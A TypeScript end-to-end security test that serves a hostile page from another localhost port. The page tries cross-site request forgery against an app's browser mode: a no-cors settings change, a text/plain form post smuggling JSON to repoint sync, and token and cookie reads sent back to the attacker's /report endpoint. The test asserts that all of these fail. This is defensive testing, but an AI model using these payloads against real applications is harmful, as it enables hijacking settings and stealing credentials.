/**
 * The probe that found browser mode's same-site hole, kept as a test: a hostile page on another 127.0.0.1 port, in
 * the same Chromium where the inspector is signed in, tries to change settings with a no-cors fetch, to point sync
 * at itself with a text/plain form post, and to read the token (from the cookies its own server is sent, from the
 * app's page and from its API). Cookies ignore ports, so anything kept in one reaches the hostile server.
 */
import { createServer, type IncomingHttpHeaders, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import { join } from 'node:path';
import type { Browser, Page } from 'playwright-core';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { launchChromium, startBrowserMode, type BrowserModeProcess } from '../support/browser-mode';
import { makeTempDir } from '../support/temp';

const temp = makeTempDir('qa-e2e-csrf-');
let app: BrowserModeProcess;
let browser: Browser;
let hostile: Server;
let hostilePort = 0;
const seenByHostile: { url: string; headers: IncomingHttpHeaders; body: string }[] = [];
const token = () => new URL(app.loginUrl).searchParams.get('token')!;

// What the hostile page would send as the device token: shaped like a real one so only the origin can stop it.
const fakeToken = `qai_${'A'.repeat(43)}`;

function hostilePage(target: string): string {
  const self = `http://127.0.0.1:${hostilePort}`;
  // A text/plain form body is `name=value`: the name carries the JSON up to a string the '=' lands inside.
  const formName = JSON.stringify({ serverUrl: `${self}/?a`, token: 'x' }).replace(/","token":"x"}$/, '');
  const formValue = `b","token":"${fakeToken}"}`;
  return `<!doctype html><meta charset="utf-8"><title>cheap flights</title>
<iframe name="sink"></iframe>
<form id="f" method="post" enctype="text/plain" target="sink" action="${target}/api/sync.configure">
  <input type="hidden" name='${formName}' value='${formValue}'>
</form>
<script>
const report = (what, value) => fetch('/report', { method: 'POST', body: JSON.stringify({ what, value: String(value) }) });
(async () => {
  await fetch('${target}/api/settings.update', {
    method: 'POST', mode: 'no-cors', credentials: 'include',
    headers: { 'content-type': 'text/plain' }, body: JSON.stringify({ language: 'en' }),
  }).then(() => report('no-cors fetch', 'sent'), (e) => report('no-cors fetch', e));
  document.getElementById('f').submit();
  for (const path of ['/', '/api/app.info']) {
    await fetch('${target}' + path, { method: path === '/' ? 'GET' : 'POST', credentials: 'include' })
      .then((r) => r.text()).then((t) => report('read ' + path, t), (e) => report('read ' + path, e));
  }
  report('document.cookie', document.cookie);
  report('done', '');
})();
</script>`;
}

beforeAll(async () => {
  app = await startBrowserMode(join(temp.dir, 'data'));
  hostile = createServer((req, res) => {
    let body = '';
    req.on('data', (chunk: Buffer) => (body += chunk.toString()));
    req.on('end', () => {
      seenByHostile.push({ url: req.url ?? '', headers: req.headers, body });
      res.writeHead(200, { 'content-type': 'text/html; charset=utf-8' });
      res.end(req.url === '/' ? hostilePage(app.url.replace(/\/$/, '')) : 'ok');
    });
  });
  await new Promise<void>((resolve) => hostile.listen(0, '127.0.0.1', resolve));
  hostilePort = (hostile.address() as AddressInfo).port;
  browser = await launchChromium();
});

afterAll(async () => {
  await browser?.close();
  await new Promise((resolve) => hostile?.close(resolve));
  await app?.stop();
  temp.cleanup();
});

/** How the hostile page's request to `path` ended: the status it got, or why the browser failed it. */
function settled(page: Page, path: string): Promise<number | string> {
  return new Promise((resolve) => {
    page.on('requestfinished', (request) => {
      if (request.url().endsWith(path)) void request.response().then((r) => resolve(r?.status() ?? 'no response'));
    });
    page.on('requestfailed', (request) => {
      if (request.url().endsWith(path)) resolve(request.failure()?.errorText ?? 'failed');
    });
  });
}

async function asApp(method: string, input: object): Promise<Record<string, unknown>> {
  const response = await fetch(`${app.url}api/${method}`, {
    method: 'POST',
    headers: { authorization: `Bearer ${token()}`, 'content-type': 'application/json' },
    body: JSON.stringify(input),
  });
  return ((await response.json()) as { data: Record<string, unknown> }).data;
}

describe('browser mode against a page on another 127.0.0.1 port', () => {
  it('gives that page neither the token nor a way to change settings or sync', async () => {
    const context = await browser.newContext();
    const appPage = await context.newPage();
    await appPage.goto(app.loginUrl);
    await expect.poll(() => appPage.getByText('录音库').first().isVisible(), { timeout: 30_000 }).toBe(true);

    const page = await context.newPage();
    const formAnswer = settled(page, '/api/sync.configure');
    const fetchAnswer = settled(page, '/api/settings.update');
    await page.goto(`http://127.0.0.1:${hostilePort}/`);
    await expect.poll(() => seenByHostile.some((r) => r.body.includes('"done"')), { timeout: 30_000 }).toBe(true);
    expect(await formAnswer).toBe(403);
    // The host's 403 does not even reach the page: Cross-Origin-Resource-Policy blocks the opaque answer.
    expect(await fetchAnswer).toBe('net::ERR_BLOCKED_BY_RESPONSE.NotSameOrigin');

    expect(await asApp('settings.get', {})).toMatchObject({ language: 'zh-CN' });
    expect(await asApp('sync.status', {})).toMatchObject({ configured: false, serverUrl: null });
    // Not in any cookie or header the browser sent to the hostile server, nor in anything its page could read.
    expect(JSON.stringify(seenByHostile)).not.toContain(token());
    const reads = seenByHostile.filter((r) => r.url === '/report').map((r) => JSON.parse(r.body) as object);
    expect(reads).toContainEqual({ what: 'read /', value: expect.stringMatching(/TypeError|Failed to fetch/) });
    expect(reads).toContainEqual({ what: 'read /api/app.info', value: expect.stringMatching(/TypeError/) });
    await context.close();
  });
});
